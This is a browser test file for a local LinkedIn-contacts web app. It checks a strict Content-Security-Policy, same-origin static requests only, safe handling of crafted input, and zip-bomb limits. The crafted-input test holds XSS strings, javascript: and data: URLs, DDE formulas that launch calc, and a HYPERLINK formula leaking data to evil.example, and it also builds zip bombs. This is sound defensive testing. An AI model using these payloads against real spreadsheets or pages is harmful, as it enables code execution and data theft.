// "No data leaves your machine", enforced and proven:
// - every request the page (and its service worker) makes, seen by the browser and by the
//   server, is a GET of one of the app's own static files: no other host, no POST or beacon, no
//   query string, no 404; this holds through an import, edits, a reload, a backup (API and the
//   download path) and a restore (API and dropping the backup file);
// - the Content-Security-Policy is strict, blocks off-origin traffic, and its violations fail
//   the tests;
// - crafted input (HTML and script in every field, javascript:/data: profile URLs, spreadsheet
//   formulas) stays plain data: nothing runs, nothing is opened, no element is created;
// - absurd input (zip bombs, a 100 MB CSV field, a 2 GB file) gives a clear error, not a dead tab.
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import {
  launch, openApp, waitReady, startServer, DIST, ROOT, HERE, assert, assertEq, assertNoProblems,
  takeProblems, frames, screenshot, importViaApi, dropFiles, tempDir, waitTexts,
} from './harness.mjs';

const FIXTURES = path.join(ROOT, 'tests', 'fixtures');
const EXPORT2024 = path.join(FIXTURES, 'import', 'export2024');
const CRAFTED = path.join(FIXTURES, 'crafted');

// ---- shared helpers (also used by offline.test.mjs and subpath.test.mjs) ---------------------

// Every file of the build, as paths relative to dist/ ("index.html", "fonts/x.ttf").
export function staticFiles(dist = DIST) {
  const out = new Set();
  const walk = (dir, rel) => {
    for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
      const r = rel ? rel + '/' + e.name : e.name;
      if (e.isDirectory()) walk(path.join(dir, e.name), r);
      else out.add(r);
    }
  };
  walk(dist, '');
  return out;
}

// Why a request is not "a GET of one of the app's own static files", or null when it is.
export function badRequest({ method, url }, { origin, prefix = '/', files }) {
  if (url.startsWith('blob:' + origin + '/')) return null;  // a download made in the page: no network
  let u;
  try { u = new URL(url, origin); } catch (e) { return 'not a URL'; }
  if (u.origin !== origin) return 'another host';
  if (method !== 'GET') return 'method ' + method;
  if (u.search || url.includes('?')) return 'query string';
  if (u.hash) return 'fragment';
  if (!u.pathname.startsWith(prefix)) return 'outside the app folder';
  let rel = decodeURIComponent(u.pathname.slice(prefix.length));
  if (rel === '' || rel.endsWith('/')) rel += 'index.html';
  if (!files.has(rel)) return 'not one of the static files';
  return null;
}

// Records every request of a browser context: the pages' and the service worker's, every
// response status and every WebSocket. Attach before the first page opens.
export function recordTraffic(context) {
  const t = { requests: [], responses: [], sockets: [], navigations: [] };
  context.on('request', (r) => {
    let sw = false;
    try { sw = !!r.serviceWorker(); } catch (e) {}
    t.requests.push({ method: r.method(), url: r.url(), type: r.resourceType(), sw, post: r.postData() });
  });
  context.on('response', (r) => t.responses.push({ url: r.url(), status: r.status() }));
  context.on('page', (p) => {
    p.on('websocket', (ws) => t.sockets.push(ws.url()));
    p.on('framenavigated', (f) => { if (f === p.mainFrame()) t.navigations.push(f.url()); });
  });
  return t;
}

// Fails unless every request seen by the browser and the server is a static GET of the app.
export function assertOnlyStaticGets(traffic, srv, { prefix = '/', files = staticFiles(), what = '' } = {}) {
  const origin = new URL(srv.url).origin;
  const bad = [];
  for (const r of traffic.requests) {
    const why = badRequest(r, { origin, prefix, files });
    if (why) bad.push(`browser${r.sw ? ' (service worker)' : ''}: ${r.method} ${r.url} (${r.type}): ${why}`);
  }
  for (const r of srv.log) {
    const why = badRequest({ method: r.method, url: origin + r.url }, { origin, prefix, files });
    if (why) bad.push(`server: ${r.method} ${r.url}: ${why}`);
  }
  for (const r of traffic.responses) {
    if (r.status >= 400 && !r.url.startsWith('blob:')) bad.push(`response ${r.status} for ${r.url}`);
  }
  for (const s of traffic.sockets) bad.push('WebSocket ' + s);
  assert(bad.length === 0, `${what}requests other than GETs of the app's static files:\n  ` + bad.join('\n  '));
  assert(srv.log.length > 0 && traffic.requests.length > 0, 'requests were recorded at all');
}

// Installs, in every document of the page, recorders of anything crafted input could trigger:
// window.open, new dangerous elements, WebRTC and beacons (which CSP does not all cover).
export async function installTripwires(page) {
  await page.addInitScript(() => {
    window.__opened = [];
    window.__beacons = [];
    window.__dangerous = [];
    window.open = function () { window.__opened.push(Array.prototype.slice.call(arguments).map(String)); return null; };
    const beacon = navigator.sendBeacon ? navigator.sendBeacon.bind(navigator) : null;
    navigator.sendBeacon = function (u, d) { window.__beacons.push(String(u)); return beacon ? beacon(u, d) : false; };
    if (window.RTCPeerConnection) {
      window.RTCPeerConnection = function () { window.__beacons.push('RTCPeerConnection'); throw new Error('no WebRTC'); };
    }
    const watch = () => {
      new MutationObserver((muts) => {
        for (const m of muts) for (const n of m.addedNodes) {
          if (n.nodeType !== 1) continue;
          const tag = n.tagName;
          // pre.js briefly adds <a download href=blob:...> (downloads), <input type=file> (pickers)
          // and <textarea> (clipboard fallback); web_input.cpp adds the text fields' own elements
          // (a text <input> and a <textarea>, class rk-field, autocomplete off) and web.cpp a
          // mailto: link it follows at once (the e-mail address clicked): anything else is suspicious.
          const field = n.classList && n.classList.contains('rk-field') && n.getAttribute('autocomplete') === 'off' &&
            n.spellcheck === false && ((tag === 'INPUT' && n.type === 'text') || tag === 'TEXTAREA');
          const ok = (tag === 'A' && /^blob:/.test(n.getAttribute('href') || '') && n.hasAttribute('download')) ||
            (tag === 'A' && /^mailto:[A-Za-z0-9._+-]+@[A-Za-z0-9.-]+$/.test(n.getAttribute('href') || '')) ||
            (tag === 'INPUT' && n.type === 'file') || tag === 'TEXTAREA' || field;
          const known = tag === 'SCRIPT' && n.src && /\/index\.js$/.test(n.src);
          if (!ok && !known) window.__dangerous.push(n.outerHTML.slice(0, 200));
        }
      }).observe(document.documentElement, { childList: true, subtree: true });
    };
    if (document.documentElement) watch(); else document.addEventListener('readystatechange', watch, { once: true });
  });
}

export async function tripwires(page) {
  return page.evaluate(() => ({
    pwned: window.__pwned === undefined ? null : String(window.__pwned),
    opened: window.__opened, beacons: window.__beacons, dangerous: window.__dangerous,
  }));
}
export async function assertTripwiresQuiet(page) {
  const t = await tripwires(page);
  assertEq(t, { pwned: null, opened: [], beacons: [], dangerous: [] }, 'nothing ran, opened, beaconed or created');
}

// Waits until the service worker controls the page and has finished its first install.
export async function waitServiceWorker(page) {
  await page.waitForFunction(() => !!navigator.serviceWorker && !!navigator.serviceWorker.controller, null, { timeout: 30000 });
  return page.evaluate(async () => {
    const reg = await navigator.serviceWorker.ready;
    return { scope: reg.scope, script: navigator.serviceWorker.controller.scriptURL, caches: await caches.keys() };
  });
}

// A .zip written by hand. entries: [{name, data (Buffer), method 0|8, compressed?, crc?, size?}]
// where compressed/crc/size override what goes in the headers (for zip bombs with lying headers).
export function makeZip(entries) {
  const locals = [];
  const centrals = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    const method = e.method === undefined ? 8 : e.method;
    const comp = e.compressed || (method === 8 ? zlib.deflateRawSync(e.data) : e.data);
    const crc = e.crc !== undefined ? e.crc : zlib.crc32(e.data);
    const size = e.size !== undefined ? e.size : e.data.length;
    const lh = Buffer.alloc(30);
    lh.writeUInt32LE(0x04034b50, 0); lh.writeUInt16LE(20, 4); lh.writeUInt16LE(0x0800, 6);
    lh.writeUInt16LE(method, 8); lh.writeUInt16LE(0, 10); lh.writeUInt16LE(0x21, 12);
    lh.writeUInt32LE(crc >>> 0, 14); lh.writeUInt32LE(comp.length, 18); lh.writeUInt32LE(size >>> 0, 22);
    lh.writeUInt16LE(name.length, 26); lh.writeUInt16LE(0, 28);
    const ch = Buffer.alloc(46);
    ch.writeUInt32LE(0x02014b50, 0); ch.writeUInt16LE(20, 4); ch.writeUInt16LE(20, 6); ch.writeUInt16LE(0x0800, 8);
    ch.writeUInt16LE(method, 10); ch.writeUInt16LE(0, 12); ch.writeUInt16LE(0x21, 14);
    ch.writeUInt32LE(crc >>> 0, 16); ch.writeUInt32LE(comp.length, 20); ch.writeUInt32LE(size >>> 0, 24);
    ch.writeUInt16LE(name.length, 28); ch.writeUInt32LE(offset, 42);
    locals.push(lh, name, comp);
    centrals.push(ch, name);
    offset += lh.length + name.length + comp.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0); end.writeUInt16LE(entries.length, 8); end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12); end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

// The CSV files of a fixture folder, as {name, path}.
export function csvFiles(dir) {
  return fs.readdirSync(dir).filter((f) => f.endsWith('.csv')).sort().map((f) => ({ name: f, path: path.join(dir, f) }));
}

// Raw deflate of `total` zero bytes made of independent 1 MiB blocks (fast for gigabytes):
// each block ends with a full flush, so blocks can be repeated; a final empty block closes it.
function deflatedZeros(total) {
  const MB = 1 << 20;
  assert(total % MB === 0, 'whole MiB');
  const block = zlib.deflateRawSync(Buffer.alloc(MB), { level: 9, finishFlush: zlib.constants.Z_FULL_FLUSH });
  const n = total / MB;
  const parts = new Array(n).fill(block);
  parts.push(Buffer.from([0x03, 0x00]));
  let crc = 0;
  const zero = Buffer.alloc(MB);
  for (let i = 0; i < n; i++) crc = zlib.crc32(zero, crc);
  return { compressed: Buffer.concat(parts), crc };
}

// ---- the tests -------------------------------------------------------------------------------

function writeTemp(dir, name, data) { const p = path.join(dir, name); fs.writeFileSync(p, data); return { name, path: p }; }

export const tests = [
  {
    name: 'the Content-Security-Policy is strict and minimal, and referrers are off',
    fn: async () => {
      const html = fs.readFileSync(path.join(DIST, 'index.html'), 'utf8');
      const m = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)">/);
      assert(m, 'index.html has a CSP meta tag');
      assert(html.indexOf(m[0]) < html.indexOf('<script'), 'the CSP comes before any script');
      assert(html.indexOf(m[0]) < html.indexOf('<link'), 'the CSP comes before any link');
      const csp = {};
      for (const d of m[1].split(';').map((s) => s.trim()).filter(Boolean)) {
        const [k, ...v] = d.split(/\s+/);
        csp[k] = v;
      }
      assertEq(csp['default-src'], ["'none'"], 'default-src');
      assertEq(csp['script-src'], ["'self'", "'wasm-unsafe-eval'"], 'script-src: own files and wasm only');
      assertEq(csp['connect-src'], ["'self'"], 'connect-src: own origin only');
      for (const k of ['img-src', 'style-src', 'worker-src', 'manifest-src']) assertEq(csp[k], ["'self'"], k);
      for (const k of ['base-uri', 'form-action', 'object-src', 'frame-src']) assertEq(csp[k], ["'none'"], k);
      assertEq(csp['require-trusted-types-for'], ["'script'"], 'Trusted Types required');
      assertEq(csp['trusted-types'], ['rekindle'], "one Trusted Types policy (boot.js: the service worker's URL)");
      const all = Object.values(csp).flat();
      for (const v of all) {
        assert(!/^(https?:|wss?:|\*|data:|blob:|'unsafe-inline'|'unsafe-eval'|'unsafe-hashes'|'strict-dynamic')/.test(v),
          'no host, scheme, wildcard or unsafe source in the CSP: ' + v);
      }
      assert(!('report-uri' in csp) && !('report-to' in csp), 'violations are not reported anywhere (that would be a request)');
      assert(/<meta name="referrer" content="no-referrer">/.test(html), 'referrer policy no-referrer');
      // No third-party host anywhere in what is shipped (sw.js, boot.js, index.js, index.html).
      for (const f of ['index.html', 'boot.js', 'sw.js']) {
        const t = fs.readFileSync(path.join(DIST, f), 'utf8');
        const hosts = (t.match(/https?:\/\/[a-z0-9.-]+/gi) || []).filter((h) => !/^https?:\/\/(www\.)?(w3\.org|user\.github\.io)/i.test(h));
        assertEq(hosts, [], f + ' names no host');
      }
    },
  },
  {
    name: 'import, edits, reload, backup and restore make only static GETs to the own origin',
    timeout: 240000,
    fn: async () => {
      const srv = await startServer(DIST);
      const ctx = await launch();
      const traffic = recordTraffic(ctx);
      const files = staticFiles();
      const tmp = tempDir();
      try {
        const page = await ctx.newPage();
        await installTripwires(page);
        await openApp(ctx, srv.url, { page });
        await waitServiceWorker(page);
        await frames(page, 5);
        assertOnlyStaticGets(traffic, srv, { files, what: 'while loading: ' });
        const atLoad = { browser: traffic.requests.length, server: srv.log.length };

        // Import: the API with CSV files, and a dropped .zip of the same export.
        const report = await importViaApi(page, csvFiles(EXPORT2024));
        assert(report.committed && !report.error, 'the import committed: ' + JSON.stringify(report.error));
        const zipped = writeTemp(tmp, 'Basic_LinkedInDataExport_12-20-2024.zip',
          makeZip(csvFiles(EXPORT2024).map((f) => ({ name: f.name, data: fs.readFileSync(f.path) }))));
        await dropFiles(page, [zipped]);
        const dropped = await page.evaluate(() => window.Module.RK.importChain);  // the drop's import
        assert(dropped && dropped.committed && !dropped.error, 'the dropped zip imported: ' + JSON.stringify(dropped && dropped.error));
        const summary = await page.evaluate(() => window.rekindle.summary());
        assert(summary.contacts > 0 && summary.messages > 0, 'contacts and messages imported: ' + JSON.stringify(summary));

        // Edits, then every view draws the data (fonts for other scripts may load: static GETs).
        const [c] = await page.evaluate(() => window.rekindle.contacts({ query: 'Ada' }));
        assert(c && c.id, 'Ada is a contact');
        await page.evaluate((id) => window.rekindle.update(id, { note: 'Met at the conference', tags: ['math'] }), c.id);
        await page.evaluate((id) => window.rekindle.markContacted(id, '2024-12-20'), c.id);
        for (const v of ['dashboard', 'contacts', 'followups', 'import', 'settings']) {
          await page.evaluate((v) => window.rekindle.view(v), v);
          await frames(page, 3);
        }
        await page.evaluate((id) => window.rekindle.select(id), c.id);
        await frames(page, 3);
        await page.evaluate(() => window.rekindle.flush());

        // Reload: the data comes back from IndexedDB, not from anywhere else.
        await page.reload();
        await waitReady(page);
        await waitTexts(page);  // (a backup needs the message texts, read just after start-up)
        const after = await page.evaluate(() => window.rekindle.summary());
        assertEq(after, summary, 'the summary after a reload');
        const [c2] = await page.evaluate((id) => window.rekindle.contacts({ query: 'Ada' }), c.id);
        assertEq([c2.note, c2.tags], ['Met at the conference', ['math']], 'the edits after a reload');

        // Backup: through the API and through the page's download path (what the button uses).
        const backup = await page.evaluate(() => window.rekindle.exportState());
        assert(typeof backup === 'string' && backup.includes('Met at the conference'), 'the backup holds the note');
        const [download] = await Promise.all([
          page.waitForEvent('download'),
          page.evaluate((b) => window.Module.RK.download('rekindle-backup.json', 'application/json', new TextEncoder().encode(b)), backup),
        ]);
        const saved = path.join(tmp, 'rekindle-backup.json');
        await download.saveAs(saved);
        assertEq(fs.readFileSync(saved, 'utf8'), backup, 'the downloaded backup');
        assert(download.url().startsWith('blob:' + new URL(srv.url).origin + '/'), 'the download is a local blob: ' + download.url());

        // Restore: delete everything, restore through the API, then again by dropping the file.
        await page.evaluate(() => window.rekindle.clearAll());
        assertEq(await page.evaluate(() => window.rekindle.summary().contacts), 0, 'contacts after clearAll');
        await page.evaluate((b) => window.rekindle.importState(b), backup);
        assertEq(await page.evaluate(() => window.rekindle.summary()), summary, 'the summary after importState');
        await page.evaluate(() => window.rekindle.clearAll());
        await dropFiles(page, [{ name: 'rekindle-backup.json', path: saved }]);
        await page.waitForFunction(() => window.rekindle.summary().contacts > 0, null, { timeout: 30000 });
        assertEq(await page.evaluate(() => window.rekindle.summary()), summary, 'the summary after dropping the backup');
        await page.evaluate(() => window.rekindle.flush());
        await page.reload();
        await waitReady(page);
        assertEq(await page.evaluate(() => window.rekindle.summary()), summary, 'the summary after restore + reload');
        await frames(page, 5);

        await assertNoProblems(page);
        await assertTripwiresQuiet(page);
        assertOnlyStaticGets(traffic, srv, { files });
        const later = traffic.requests.slice(atLoad.browser);
        assert(later.every((r) => r.method === 'GET'), 'only GETs after load');
        assert(traffic.navigations.every((u) => u === srv.url), 'the page never navigated elsewhere: ' + traffic.navigations.join(', '));
        console.log(`       (${atLoad.browser} browser / ${atLoad.server} server requests while loading, ` +
          `${traffic.requests.length - atLoad.browser} / ${srv.log.length - atLoad.server} after: all static GETs)`);
      } finally { await ctx.close(); await srv.close(); fs.rmSync(tmp, { recursive: true, force: true }); }
    },
  },
  {
    name: 'the CSP blocks off-origin fetches, beacons, images and frames, and its violations fail the tests',
    fn: async () => {
      const srv = await startServer(DIST);
      const ctx = await launch();
      const traffic = recordTraffic(ctx);
      try {
        const page = await openApp(ctx, srv.url);
        await assertNoProblems(page);
        const other = `http://localhost:${srv.port}/`;  // same server, another origin
        const served = srv.log.length;
        const results = await page.evaluate(async (other) => {
          const out = {};
          out.fetch = await fetch(other + 'index.html').then(() => 'sent', (e) => 'blocked');
          out.remote = await fetch('https://example.com/').then(() => 'sent', () => 'blocked');
          out.beacon = navigator.sendBeacon(other + 'beacon', 'data') ? 'queued' : 'refused';
          const img = new Image(); img.src = other + 'icon.svg';
          out.img = await new Promise((r) => { img.onload = () => r('loaded'); img.onerror = () => r('blocked'); });
          const f = document.createElement('iframe'); f.src = other; document.body.appendChild(f);
          try { document.body.insertAdjacentHTML('beforeend', '<b>x</b>'); out.html = 'parsed'; } catch (e) { out.html = 'refused'; }
          await new Promise((r) => setTimeout(r, 300));
          f.remove();
          return out;
        }, other);
        assertEq(results.fetch, 'blocked', 'fetch to another origin');
        assertEq(results.remote, 'blocked', 'fetch to another host');
        assertEq(results.img, 'blocked', 'image from another origin');
        assertEq(results.html, 'refused', 'HTML from a string (Trusted Types)');
        await frames(page, 3);
        const problems = await takeProblems(page);
        const text = problems.join('\n');
        for (const d of ['connect-src', 'img-src', 'frame-src', 'require-trusted-types-for']) {
          assert(text.includes('CSP violation: ' + d), `a ${d} violation is reported as a problem:\n${text}`);
        }
        // The harness turns such a report into a failure.
        await page.evaluate((other) => fetch(other).catch(() => {}), other);
        await frames(page, 2);
        let failed = false;
        try { await assertNoProblems(page); } catch (e) { failed = /CSP violation: connect-src/.test(e.message); }
        assert(failed, 'assertNoProblems fails on a CSP violation');
        // Chromium reports the blocked attempts as requests: none may have got an answer, and
        // the server (which also answers at `other`) must have seen none of them.
        assertEq(srv.log.slice(served), [], 'nothing reached the server');
        const answered = traffic.responses.filter((r) => r.url.startsWith(other) || r.url.startsWith('https://example.com'));
        assertEq(answered, [], 'no off-origin request was answered');
      } finally { await ctx.close(); await srv.close(); }
    },
  },
  {
    name: 'crafted CSVs: HTML and script stay text, javascript: URLs are never opened, formulas stay data',
    fn: async () => {
      const srv = await startServer(DIST);
      const ctx = await launch();
      const traffic = recordTraffic(ctx);
      try {
        const page = await ctx.newPage();
        await installTripwires(page);
        await openApp(ctx, srv.url, { page });
        const files = csvFiles(CRAFTED);
        // A file name is shown too: make it HTML as well.
        const evilName = `<img src=x onerror="window.__pwned='file-name'">.csv`;
        const report = await page.evaluate(async ({ payload, evilName }) => {
          const list = payload.map((f) => new File([f.text], f.name));
          list.push(new File(['<script>window.__pwned="file"</script>\n'], evilName));
          return window.rekindle.importFiles(list);
        }, { payload: files.map((f) => ({ name: f.name, text: fs.readFileSync(f.path, 'utf8') })), evilName });
        assert(report.committed, 'the crafted import committed: ' + JSON.stringify(report));
        const names = report.files.map((f) => f.name);
        assert(names.includes(evilName), 'the report gives the HTML file name back as plain text: ' + JSON.stringify(names));
        const kinds = Object.fromEntries(report.files.map((f) => [f.name, f.kind]));
        assert(kinds['Connections.csv'] !== 'unknown' && kinds['messages.csv'] !== 'unknown', 'crafted files recognised: ' + JSON.stringify(kinds));

        const all = await page.evaluate(() => window.rekindle.contacts({}));
        const by = (last) => all.find((c) => c.last_name === last);
        const evil = by('Evil'), formula = by('Formula'), look = by('Host'), http = by('Http'), safe = by('Person');
        assert(evil && formula && look && http && safe, 'every crafted contact is there: ' + all.map((c) => c.name).join(', '));
        assertEq(evil.first_name, `<img src=x onerror="window.__pwned='first_name'">`, 'HTML name kept verbatim as text');
        assertEq(evil.company, `<script>window.__pwned='company'</script>`, 'script company kept verbatim');
        assertEq(evil.url, `javascript:window.__pwned='url'`, 'the javascript: URL is kept as data');
        assertEq(evil.position, `=HYPERLINK("https://evil.example/?leak="&A1,"Click")`, 'formula kept as data');
        assertEq(formula.first_name, `=cmd|' /C calc'!A0`, 'formula name kept as data');
        assertEq(formula.company, `@SUM(1+1)*cmd|' /C calc'!A0`, '@ formula kept as data');
        assertEq(formula.url, `data:text/html,<script>window.__pwned='data-url'</script>`, 'data: URL kept as data');
        assertEq(look.position, '<b>Bold</b> &amp; <i>entity</i>', 'entities are not decoded');
        assertEq(safe.url, 'https://www.linkedin.com/in/safe-person', 'the safe URL');
        assert(safe.messages_received >= 1, 'the HTML message was imported as a message');

        // A note with HTML comes back verbatim.
        const note = `<img src=x onerror="window.__pwned='note'"><script>window.__pwned='note2'</script>`;
        const updated = await page.evaluate(({ id, note }) => window.rekindle.update(id, { note, tags: ['<b>tag</b>'] }), { id: evil.id, note });
        assertEq([updated.note, updated.tags], [note, ['<b>tag</b>']], 'note and tag kept verbatim');

        // Draw every view and every crafted contact's detail (profile buttons included).
        for (const v of ['dashboard', 'contacts', 'followups', 'import', 'settings']) {
          await page.evaluate((v) => window.rekindle.view(v), v);
          await frames(page, 3);
        }
        await page.evaluate(() => window.rekindle.view('contacts'));
        for (const c of [evil, formula, look, http, safe]) {
          assert((await page.evaluate((id) => window.rekindle.select(id), c.id)).ok, 'select ' + c.name);
          await frames(page, 3);
          // Enter and Space act on ImGui's focused item: nothing may open the profile URLs.
          await page.keyboard.press('Enter');
          await frames(page, 2);
        }
        await page.evaluate((id) => window.rekindle.select(id), evil.id);
        await screenshot(page, 'privacy-crafted-detail');

        await assertNoProblems(page);
        const t = await tripwires(page);
        assertEq(t.pwned, null, 'no crafted payload ran (window.__pwned)');
        assertEq(t.dangerous, [], 'no element was created from crafted input');
        for (const o of t.opened) {
          assert(/^https:\/\/(www\.)?linkedin\.com\//.test(o[0]), 'only https LinkedIn URLs are ever opened: ' + o[0]);
        }
        assertEq(t.beacons, [], 'no beacon or WebRTC');
        assertOnlyStaticGets(traffic, srv);
      } finally { await ctx.close(); await srv.close(); }
    },
  },
  {
    name: 'zip bombs, a 100 MB CSV field and a 2 GB file give clear errors; the tab keeps working',
    timeout: 240000,
    fn: async () => {
      const srv = await startServer(DIST);
      const ctx = await launch();
      const tmp = tempDir();
      try {
        const page = await openApp(ctx, srv.url);
        // 1. A lying header: claims 64 KB, inflates to 1 GiB (only the real output can tell).
        // 2. An honest 1 GiB + 1 MiB entry; 3. an honest 256 MiB entry at ~1000:1.
        const GiB = 1 << 30, MiB = 1 << 20;
        const lying = deflatedZeros(GiB);
        const big = deflatedZeros(GiB + MiB);
        const dense = zlib.deflateRawSync(Buffer.alloc(256 * MiB), { level: 9 });
        const bomb = makeZip([
          { name: 'messages.csv', data: Buffer.alloc(0), compressed: lying.compressed, crc: 0, size: 64 * 1024 },
          { name: 'Connections.csv', data: Buffer.alloc(0), compressed: big.compressed, crc: big.crc, size: GiB + MiB },
          { name: 'Invitations.csv', data: Buffer.alloc(0), compressed: dense, crc: 0, size: 256 * MiB },
        ]);
        assert(bomb.length < 4 * MiB, 'the bomb is small: ' + bomb.length);
        const bombFile = writeTemp(tmp, 'Complete_LinkedInDataExport_bomb.zip', bomb);
        const t0 = Date.now();
        const r1 = await importViaApi(page, [bombFile]);
        const errs = JSON.stringify(r1);
        assert(Date.now() - t0 < 60000, 'the bomb was refused quickly');
        assert(/zip bomb|too large|expands too much|larger than/i.test(errs), 'a clear error about the zip bomb: ' + errs);
        // The lying entry stops at its declared size (then fails its checksum, or is refused as a
        // bomb); the honest ones are refused from their headers.
        const expect = { 'messages.csv': /zip bomb|larger than|corrupt/i, 'Connections.csv': /too large|zip bomb/i,
          'Invitations.csv': /expands too much|zip bomb|too large/i };
        for (const [e, re] of Object.entries(expect)) {
          const f = r1.files.find((x) => x.name.includes(e));
          const msg = f ? f.errors.join(' ') : errs;
          assert(re.test(msg), `${e}: a clear error: ${JSON.stringify(f || r1)}`);
        }
        assertEq(await page.evaluate(() => window.rekindle.summary().contacts), 0, 'nothing imported from the bomb');

        // A CSV with one 100 MB field (built in the page: only the page holds it).
        const r2 = await page.evaluate(async () => {
          const big = 'A'.repeat(100 * 1024 * 1024);
          const f = new File(['First Name,Last Name,URL,Email Address,Company,Position,Connected On\n',
            'Ada,Lovelace,https://www.linkedin.com/in/ada,,"', big, '",Programmer,04 Jul 2023\n',
            'Alan,Turing,https://www.linkedin.com/in/alan,,Bletchley,Cryptanalyst,15 Jan 2022\n'], 'Connections.csv');
          return window.rekindle.importFiles([f]);
        });
        const e2 = JSON.stringify(r2);
        assert(/field longer than|too long|too large/i.test(e2), 'a clear error about the 100 MB field: ' + e2.slice(0, 500));
        assert(!/[A]{1000}/.test(e2), 'the report does not echo the field');

        // A 2 GB file (a Blob the browser may keep on disk): refused before it is read whole.
        const r3 = await page.evaluate(async () => {
          const chunk = new Uint8Array(64 * 1024 * 1024);
          const parts = [];
          for (let i = 0; i < 32; i++) parts.push(chunk);
          const f = new File(parts, 'messages.csv');
          const out = await window.rekindle.importFiles([f]);
          return { size: f.size, report: out };
        });
        assertEq(r3.size, 2 * 1024 * 1024 * 1024, 'a 2 GiB file');
        const e3 = JSON.stringify(r3.report);
        assert(/too large|limit/i.test(e3), 'a clear error about the 2 GB file: ' + e3.slice(0, 500));

        // The tab still works: an ordinary import succeeds and every view draws.
        const ok = await importViaApi(page, csvFiles(EXPORT2024));
        assert(ok.committed && !ok.error, 'an ordinary import afterwards');
        const s = await page.evaluate(() => window.rekindle.summary());
        assert(s.contacts > 0, 'summary() answers after the bombs: ' + JSON.stringify(s));
        await screenshot(page, 'privacy-after-bombs');
        await assertNoProblems(page);
      } finally { await ctx.close(); await srv.close(); fs.rmSync(tmp, { recursive: true, force: true }); }
    },
  },
];
